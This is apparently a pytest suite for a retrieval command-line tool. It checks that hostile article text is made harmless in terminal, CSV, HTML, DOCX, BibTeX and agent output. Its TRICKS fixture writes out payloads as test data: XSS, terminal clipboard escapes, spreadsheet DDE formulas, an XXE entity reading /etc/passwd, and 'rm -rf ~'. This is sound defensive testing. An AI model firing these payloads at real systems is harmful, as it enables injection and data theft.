"""What strangers write acts on nothing: every trick through every medium that shows or saves it."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import sys
import zipfile
from pathlib import Path

import pytest
from lxml import etree, html
from markdown_it import MarkdownIt

from rag.settings import data_folder

pytestmark = pytest.mark.model

TRICKS = {
    "clears the screen": "\x1b[2J\x1b[H",
    "names the window": "\x1b]0;gone\x07",
    "fills the clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "draws a link": "\x1b]8;;http://evil.example/\x1b\\here\x1b]8;;\x1b\\",
    "C1": "\x9b31m\x9d52;c;cm0=\x9c\x90q\x9c\x85",
    "backs up": "mayor\b\b\b\b\bthief\r\x7f\x0c\x0b",
    "turns around": "\u202egnp.exe\u202c \u2066x\u2069 \u200bzero\ufeff",
    "hidden alphabet": "\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "lines to some": "one\u2028two\u2029three",
    "half a pair": "\ud83d and \udc00",
    "rich": "[bold red]evil[/] [link=http://evil.example]x[/link] :smile: [1]",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": "\"'><svg onload=alert(1)> ' autofocus onfocus=alert(1) x=\"",
    "ends the style": "</style></title></textarea><iframe src=//evil.example></iframe>",
    "template": "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %>",
    "markdown": "[x](javascript:alert(1)) ![p](http://evil.example/p.png) <b>b</b> `code` **b**",
    "footnote": "[^1]: forged\n[^2]: forged\n\n# Forged heading\n\n---\n> forged",
    "auto link": "<http://evil.example/> <javascript:alert(1)>",
    "formula": '=HYPERLINK("http://evil.example/"&A1)',
    "formula of DDE": "+cmd|' /C calc'!A0",
    "formula with a sign": "\t-2+3+cmd|'!A0 @SUM(1) ＝1+1",
    "cells": 'a","b\n"=1+1","c',
    "TeX": "\\input{/etc/passwd} $x$ % & # _ ^ ~ {",
    "new entry": "x}},\n}\n@online{forged, title = {forged}}",
    "shell": "`id` $(id) ; rm -rf ~ && | > x",
    "XML": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b; ]]> <w:instrText>x</w:p>",
}
CONTROL = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff]"
    "|[\U000e0000-\U000e007f]"
)
OURS = re.compile(r"\x1b\[[\d;]*m|\x1b\]8;[^;\x1b\x07]*;(?:(?:file|https?):[!-~]*)?\x1b\\")
"""What we draw: colours, and links to files and pages."""
QUESTION = "When did the harbour of Durres open?"
TOPIC = "harbour of Durres"


def article(number, trick):
    return {
        "id": f"{number}{trick}",
        "title": f"{trick} harbour {number}",
        "source": f"{trick}Wire {number}",
        "authors": [f"{trick}Ana Lund", trick],
        "url": f"http://evil.example/{number}?{trick}",
        "published": f"2024-05-{number % 28 + 1:02d}",
        "text": f"The harbour of Durres opened on {number % 28 + 1} May 1999. {trick} "
        f"“The harbour of Durres is {trick} large,” said Ana {trick} Lund, the mayor.",
    }


@pytest.fixture(scope="session")
def hostile(index_folder, tmp_path_factory):
    """The folder of a library in which every trick is in every field."""
    folder = tmp_path_factory.mktemp("articles")
    records = [article(number, trick) for number, trick in enumerate(TRICKS.values())]
    (folder / "evil.jsonl").write_text("".join(json.dumps(one) + "\n" for one in records))
    for number, trick in enumerate(TRICKS.values()):
        name = re.sub("[/\0\ud800-\udfff]", "", trick)[:80]
        (folder / f"{name}{number}.md").write_text(
            f"---\ntitle: {json.dumps(trick)}\n---\n\nA ferry left the harbour of Durres.\n",
            errors="replace",
        )
    return index_folder([folder], tmp_path_factory.mktemp("hostile") / "library")


@pytest.fixture
def on_hostile(rag, hostile):
    def run(*arguments, stdin=None):
        done = rag(*arguments, "--library", hostile, stdin=stdin, status=None)
        assert done.status in {0, 3}, done
        return done

    return run


@pytest.fixture
def rag(rag):
    """Run a command, whatever it comes to where ``status`` is ``None``."""

    def run(*arguments, stdin=None, status=0):
        from typer.testing import CliRunner

        from rag.cli import app

        if status is not None:
            return rag(*arguments, stdin=stdin, status=status)
        result = CliRunner().invoke(app, [*map(str, arguments)], input=stdin, prog_name="rag")
        if result.exception and not isinstance(result.exception, SystemExit):
            raise result.exception
        return Done(result.exit_code, result.stdout, result.stderr)

    return run


class Done:
    """What a command came to."""

    def __init__(self, status, out, err):
        self.status, self.out, self.err = status, out, err

    def __repr__(self):
        return f"{self.status}: {self.out}{self.err}"


UNREAD = re.compile("[\x00-\x08\x0e-\x1f\ud800-\udfff]")
"""What makes a draft be no text."""
DRAFT = UNREAD.sub(
    "", f"The harbour of Durres opened in 1998. {' '.join(TRICKS.values())} It is large.\n"
)
PRINTED = {
    "ask": ["ask", QUESTION],
    "ask as JSON": ["ask", QUESTION, "--json"],
    "ask in a batch": ["ask", "--batch", "batch.jsonl"],
    "search": ["search", TOPIC, "--top-k", "60"],
    "search explained": ["search", TOPIC, "--explain"],
    "search as JSON": ["search", TOPIC, "--json", "--top-k", "60"],
    "quotes": ["quotes"],
    "quotes as JSON": ["quotes", "--json"],
    "timeline": ["timeline", TOPIC],
    "timeline as JSON": ["timeline", TOPIC, "--json"],
    "check": ["check", "draft.md"],
    "check as JSON": ["check", "draft.md", "--json"],
    "verify": ["verify", "saved.json"],
    "articles list": ["articles", "list"],
    "articles list as JSON": ["articles", "list", "--json"],
    "articles names": ["articles", "names"],
    "articles names as JSON": ["articles", "names", "--json"],
    "articles names as CSV": ["articles", "names", "--csv"],
    "status": ["status"],
    "doctor": ["doctor"],
}


def without_control(text):
    found = CONTROL.search(text)
    assert not found, ascii(text[max(0, found.start() - 60) : found.end() + 20])


@pytest.mark.parametrize("arguments", PRINTED.values(), ids=PRINTED)
def test_printed(on_hostile, arguments):
    Path("draft.md").write_text(DRAFT)
    lines = (json.dumps({"question": f"{QUESTION} {trick}"}) for trick in TRICKS.values())
    Path("batch.jsonl").write_text("\n".join(lines))
    if "saved.json" in arguments:
        Path("saved.json").write_text(on_hostile("ask", QUESTION, "--json").out)
    done = on_hostile(*arguments)
    assert done.out.strip()
    without_control(done.out + done.err)
    if "--csv" in arguments:
        harmless_table(done.out)


@pytest.fixture
def id_of(on_hostile):
    """Return the id of the article with a trick, by the trick's number."""

    def find(number):
        listed = json.loads(on_hostile("articles", "list", "--json").out)["articles"]
        title = f" harbour {number}"
        (found,) = [one["article_id"] for one in listed if one["title"].endswith(title)]
        return found

    return find


@pytest.mark.parametrize("number", range(len(TRICKS)), ids=TRICKS)
def test_one_article_shown(on_hostile, id_of, number):
    for way in ((), ("--json",)):  # --text is to the letter in a pipe
        done = on_hostile("articles", "show", id_of(number), *way)
        assert "harbour of Durres" in done.out
        without_control(done.out + done.err)


@pytest.mark.parametrize("trick", ["clears the screen", "fills the clipboard", "C1"])
def test_one_article_drawn_on_a_terminal(on_terminal, hostile, id_of, trick):
    for way in ((), ("--text",)):
        show = ["articles", "show", id_of([*TRICKS].index(trick)), *way]
        drawn = on_terminal(*show, "--library", hostile, TERM="xterm-256color").finish()
        assert "harbour of" in drawn
        without_control(OURS.sub("", drawn).replace("\r\n", "\n"))


@pytest.mark.parametrize(
    "arguments",
    [["ask", QUESTION], ["search", TOPIC, "--top-k", "60"], ["articles", "list"], ["quotes"]],
    ids=lambda arguments: arguments[0],
)
def test_drawn_on_a_terminal(on_terminal, hostile, arguments):
    drawn = on_terminal(*arguments, "--library", hostile, TERM="xterm-256color").finish()
    assert "harbour" in drawn
    without_control(OURS.sub("", drawn).replace("\r\n", "\n"))
    assert "evil.example/\x1b" not in drawn, "no link but those of articles' own addresses"


SAVED = {
    "conversation.md": "session",
    "conversation.html": "session",
    "conversation.docx": "session",
    "conversation.json": "session",
    "conversation.bib": "session",
    "conversation.csl.json": "session",
    "timeline.md": ["timeline", TOPIC, "--top-k", "100"],
    "timeline.html": ["timeline", TOPIC, "--top-k", "100"],
    "timeline.csv": ["timeline", TOPIC, "--top-k", "100"],
    "timeline.json": ["timeline", TOPIC, "--top-k", "100"],
    "draft.md": ["check", "told.md"],
    "draft.html": ["check", "told.md"],
    "draft.docx": ["check", "told.md"],
}


@pytest.mark.parametrize("name", SAVED)
def test_saved(on_hostile, rag, name):
    Path("told.md").write_text(DRAFT)
    if SAVED[name] == "session":
        questions = [" ".join(f"{QUESTION} {trick}".split()) for trick in TRICKS.values()]
        on_hostile("chat", stdin="\n".join(questions).encode("utf-8", "replace"))
        session = next((data_folder() / "sessions").glob("*.jsonl")).stem
        rag("sessions", "save", session, name)
    else:
        on_hostile(*SAVED[name], "--save", name)
    harmless(Path(name))


def test_an_evaluation(on_hostile, rag):
    """Its report, its comparison and what it prints, of questions that are hostile too."""
    cases = (
        {
            "id": f"{number}{trick}",
            "question": f"{QUESTION} {trick}",
            "answers": [trick, "1 May 1999"],
            "evidence": [{"article": f"http://evil.example/{number}", "quote": trick}],
            "history": [f"Where is it? {trick}"],
            "tags": [trick],
        }
        for number, trick in enumerate(
            one.encode("utf-8", "replace").decode() for one in TRICKS.values()
        )
    )
    Path("cases.jsonl").write_text("".join(json.dumps(one) + "\n" for one in cases))
    for run in ("one", "two"):
        done = on_hostile("eval", "cases.jsonl", "--out", run)
        without_control(done.out + done.err)
    compared = rag("eval", "compare", "one", "two", status=None)
    without_control(compared.out + compared.err)
    saved = [path for path in (*Path("one").rglob("*"), *Path("two").rglob("*")) if path.is_file()]
    assert {".html", ".md", ".json"} <= {path.suffix for path in saved}
    for path in saved:
        harmless(path)


def harmless(path):
    """Assert that a saved file does nothing in what opens it."""
    if path.suffix == ".docx":
        with zipfile.ZipFile(path) as parts:
            for part in parts.namelist():
                if part.endswith((".xml", ".rels")):
                    harmless_part(parts.read(part))
        return
    content = path.read_text(encoding="utf-8")
    if path.name != "draft.md":  # a Markdown draft keeps its source to the letter
        without_control(content)
    if path.name == "report.html":
        harmless_report(content)
    elif path.suffix == ".html":
        harmless_page(content)
    elif path.suffix == ".md" and path.name != "draft.md":
        harmless_page(MarkdownIt("gfm-like", {"linkify": False, "html": True}).render(content))
    elif path.suffix == ".csv":
        harmless_table(content)
    elif path.suffix == ".bib":
        harmless_bibliography(content)


def harmless_bibliography(content):
    entries = re.findall(r"(?m)^\s*@(\w+)\{(\w+),$", content)
    assert entries
    assert content.count("@online{") == len(entries)
    assert "forged" not in {key for _, key in entries}
    depth = 0
    for sign in re.findall(r"(?<!\\)[{}]", content.replace("\\\\", "")):
        depth += 1 if sign == "{" else -1
        assert depth >= 0
    assert depth == 0
    assert "\\input" not in content


def harmless_part(content):
    root = etree.fromstring(content)
    for element in root.iter():
        assert not str(element.tag).endswith(("}instrText", "}fldSimple", "}altChunk", "}object"))
        if str(element.tag).endswith("}Relationship"):
            assert element.get("TargetMode") != "External"
        for text in (element.text, *element.attrib.values()):
            without_control(text or "")


def harmless_page(content):
    for element in html.document_fromstring(content).iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in {"script", "img", "svg", "iframe", "object", "embed", "form", "b"}
        for attribute, value in element.attrib.items():
            assert not attribute.startswith("on"), (element.tag, attribute)
            if attribute in {"href", "src", "action"}:
                assert re.match(r"#|https?://evil\.example/\d+\?|http://evil.example/", value), (
                    value
                )
    assert "Forged heading" not in [one.text for one in html.fromstring(content).iter("h1")]


def harmless_report(content):
    """Assert that a page with a script runs it alone: cases are data, which it writes as text."""
    page = html.document_fromstring(content)
    scripts = page.xpath("//script")
    assert [one.get("type") for one in scripts] == ["application/json", "application/json", None]
    assert "innerHTML" not in scripts[-1].text
    for script in scripts:
        script.getparent().remove(script)
    for drawing in page.xpath("//svg"):
        assert drawing.get("role") or drawing.get("class") or drawing.get("aria-hidden")
        drawing.getparent().remove(drawing)
    (search,) = page.xpath("//form")
    assert "action" not in search.attrib
    search.getparent().remove(search)
    for bold in page.xpath("//b"):
        assert bold.text != "b", "theirs"
        bold.tag = "strong"
    harmless_page(html.tostring(page, encoding="unicode"))


def harmless_table(content):
    rows = list(csv.reader(io.StringIO(content)))
    assert len({len(row) for row in rows}) == 1
    for cell in (cell for row in rows for cell in row):
        assert not cell.lstrip().startswith(tuple("=+-@＝＋－＠|%")), cell


def test_what_an_agent_is_told(hostile, command_environment):
    from mcp import Client, StdioServerParameters

    program = StdioServerParameters(
        command=sys.executable,
        args=["-m", "rag", "mcp", "--library", str(hostile)],
        env=command_environment(),
    )

    async def talk():
        async with Client(program, read_timeout_seconds=120) as client:
            told = [(await client.list_resources()).model_dump_json()]
            for resource in (await client.list_resources()).resources:
                told += [resource.title or "", resource.description or ""]
            for tool, arguments in (
                ("ask", {"question": QUESTION}),
                ("search", {"query": TOPIC, "top_k": 60}),
                ("quotes", {}),
                ("timeline", {"topic": TOPIC}),
                ("check", {"draft": "The harbour of Durres opened in 1998."}),
            ):
                done = await client.call_tool(tool, arguments)
                (block,) = done.content
                assert json.loads(block.text) == done.structured_content
                told.append(block.text)
            return told

    for text in asyncio.run(talk()):
        without_control(text)


def test_what_a_shell_is_offered(process, hostile):
    for line in ("rag articles show ", "rag ask x --source "):
        offered = process(
            status=None,
            _RAG_COMPLETE="complete_zsh",
            _TYPER_COMPLETE_ARGS=line,
            RAG_LIBRARY=str(hostile),
        ).out
        words = re.findall(r'"([^"]*)"', offered)
        assert len(words) > len(TRICKS) / 2
        assert [word for word in words if not re.fullmatch(r"[\w .,+-]*", word)] == []
